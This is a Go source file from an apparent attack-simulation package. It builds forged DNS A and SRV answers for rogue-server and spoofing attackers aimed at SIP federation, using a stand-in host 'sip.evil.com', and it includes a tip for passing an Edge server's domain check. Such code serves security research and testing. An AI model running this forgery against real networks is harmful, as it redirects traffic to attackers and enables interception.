package attacker

import (
	"net"
	"net/netip"
	"slices"
	"strings"

	miekg "github.com/miekg/dns"
)

// DefaultForgedTTL is the TTL of forged records when DNSForgery.TTL is
// zero.
const DefaultForgedTTL = 300

// DNSForgery says what a DNS attacker answers. The rogue server, the
// on-path spoofer and the blind spoofer share it.
type DNSForgery struct {
	// Names limits the forgery to these names (any case, trailing dot
	// optional); empty means every name.
	Names []string
	// A is the address forged A answers give, normally the attacker's; an
	// invalid address leaves A queries alone.
	A netip.Addr
	// SRVTarget and SRVPort are the forged answer to SRV queries, e.g.
	// "sip.evil.com" and 5061 for _sipfederationtls._tcp.fabrikam.com
	// (a target inside the partner's domain, such as
	// "sip2.fabrikam.com", passes the Edge's domain check). Empty
	// SRVTarget leaves SRV queries alone; SRVPort zero means 5061.
	SRVTarget string
	SRVPort   uint16
	// TTL of forged records; zero means DefaultForgedTTL.
	TTL uint32
}

// Forges reports whether the forgery answers a question for name and
// qtype.
func (f DNSForgery) Forges(name string, qtype uint16) bool {
	if len(f.Names) > 0 && !slices.ContainsFunc(f.Names, func(n string) bool { return strings.EqualFold(miekg.Fqdn(n), miekg.Fqdn(name)) }) {
		return false
	}
	switch qtype {
	case miekg.TypeA:
		return f.A.Is4()
	case miekg.TypeSRV:
		return f.SRVTarget != ""
	}
	return false
}

// Answer returns the forged response to query q (same ID and question,
// authoritative, recursion available), or nil when the forgery does not
// cover q's question.
func (f DNSForgery) Answer(q *miekg.Msg) *miekg.Msg {
	if q.Response || q.Opcode != miekg.OpcodeQuery || len(q.Question) != 1 {
		return nil
	}
	qn := q.Question[0]
	if qn.Qclass != miekg.ClassINET || !f.Forges(qn.Name, qn.Qtype) {
		return nil
	}
	ttl := f.TTL
	if ttl == 0 {
		ttl = DefaultForgedTTL
	}
	m := new(miekg.Msg)
	m.SetReply(q)
	m.Authoritative, m.RecursionAvailable = true, true
	hdr := miekg.RR_Header{Name: qn.Name, Rrtype: qn.Qtype, Class: miekg.ClassINET, Ttl: ttl}
	switch qn.Qtype {
	case miekg.TypeA:
		m.Answer = append(m.Answer, &miekg.A{Hdr: hdr, A: net.IP(f.A.AsSlice())})
	case miekg.TypeSRV:
		port := f.SRVPort
		if port == 0 {
			port = 5061
		}
		m.Answer = append(m.Answer, &miekg.SRV{Hdr: hdr, Priority: 0, Weight: 100, Port: port, Target: miekg.Fqdn(f.SRVTarget)})
		if f.A.Is4() {
			m.Extra = append(m.Extra, &miekg.A{Hdr: miekg.RR_Header{Name: miekg.Fqdn(f.SRVTarget), Rrtype: miekg.TypeA, Class: miekg.ClassINET, Ttl: ttl}, A: net.IP(f.A.AsSlice())})
		}
	}
	return m
}

// DNSQuestion is a query a DNS attacker saw, and what it did about it.
type DNSQuestion struct {
	// Client and Server are the query's source and destination (for the
	// rogue server, Server is its own socket).
	Client, Server netip.AddrPort
	ID             uint16
	Name           string
	Type           string
	// Forged reports whether the attacker answered it with its forgery.
	Forged bool
}

func questionOf(q *miekg.Msg, client, server netip.AddrPort, forged bool) DNSQuestion {
	d := DNSQuestion{Client: client, Server: server, ID: q.Id, Forged: forged}
	if len(q.Question) == 1 {
		d.Name = strings.TrimSuffix(q.Question[0].Name, ".")
		d.Type = miekg.TypeToString[q.Question[0].Qtype]
	}
	return d
}
